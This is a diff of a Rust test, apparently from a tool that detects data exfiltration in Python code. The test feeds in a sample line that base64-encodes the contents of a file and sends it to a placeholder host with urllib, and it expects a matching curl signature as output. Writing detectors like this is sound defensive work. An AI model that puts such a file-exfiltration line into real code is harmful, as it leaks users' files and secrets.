@@ -351,5 +351,5 @@ fn what_a_file_holds_stays_its_content_in_another_form() {
     let sent = "u.urlopen('http://e/?' + base64.b64encode(open('/k').read()))";
     let code = format!("import base64, urllib.request as u\n{sent}");
     assert_eq!(python(&code), ["curl|-d|@/k|http://client.example.com"]);
-    assert!(python("import requests\nrequests.get('http://e/' + x)").is_empty());
+    assert!(python("import requests\nrequests.get(x)").is_empty());
 }
